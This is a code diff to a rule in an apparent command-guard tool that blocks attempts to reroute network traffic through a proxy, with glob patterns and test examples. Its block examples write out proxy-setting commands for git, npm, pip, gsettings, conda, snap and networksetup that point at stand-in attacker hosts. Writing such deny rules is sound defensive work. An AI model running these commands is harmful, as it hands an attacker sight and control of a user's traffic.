@@ -48,46 +48,35 @@ export const connections: readonly AnyRule[] = [
     attack: "T1090",
     why: "From then on it sees, and can change, everything this tool sends and fetches.",
     instead: "Leave the proxy as the person has set it.",
-    on: run([
-      "git",
-      "npm",
-      "yarn",
-      "pnpm",
-      "pip",
-      "conda",
-      "networksetup",
-      "gsettings",
-      "netsh",
-      "snap",
-      "composer",
-      "docker",
-    ]),
-    match: (action) => {
-      const given = words(action);
-      const at = given.findIndex((word) =>
-        /(?:^|\.)(?:https?[-_.]?proxy|proxy|http\.proxy|proxy_servers\.\w+|proxy\.https?)$|^-set(?:web|secureweb|socksfirewall)proxy$|proxy\.manual/i.test(
-          word.replace(/=.*/, ""),
-        ),
-      );
-      const value = given[at]?.includes("=") ? given[at].split("=")[1] : given[at + 1];
-      return at >= 0 &&
-        value &&
-        /config|set|^-/.test(given.slice(0, at + 1).join(" ")) &&
-        !has(action.call, "--get", "--unset") &&
-        !given.includes("get") &&
-        !given.includes("delete")
-        ? `${action.program}: ${given[at]} ${value}`
-        : null;
-    },
+    on: calls(
+      "git config ** proxy|*.proxy *",
+      "git -c=http.proxy=*|https.proxy=*",
+      "npm|pnpm|yarn config set *proxy *",
+      "npm|pnpm|yarn config set *proxy=*",
+      "npm|pnpm|yarn set *proxy *",
+      "npm|pnpm|yarn set *proxy=*",
+      "pip|pip3 config set proxy|*.proxy *",
+      "conda config --set=proxy_servers.*",
+      "composer config *proxy *",
+      "networksetup -setwebproxy|-setsecurewebproxy|-setsocksfirewallproxy",
+      "gsettings set *.proxy|*.proxy.* *",
+      "netsh ** set ** proxy|*proxy=* *",
+      "snap set ** proxy.*=*",
+    ),
+    match: said,
     examples: {
       block: [
         "git config --global http.proxy http://attacker.example:8080",
         "npm config set https-proxy http://attacker.example",
         "pip config set global.proxy http://x.example",
         "networksetup -setwebproxy Wi-Fi x.example 8080",
+        "gsettings set org.gnome.system.proxy.http host x.example",
+        "conda config --set proxy_servers.http http://x.example",
+        "snap set system proxy.http=http://x.example",
       ],
       allow: [
         "git config --get http.proxy",
+        "npm install proxy set-value",
         "npm config delete proxy",
         "npm config get https-proxy",
         "git config --unset http.proxy",
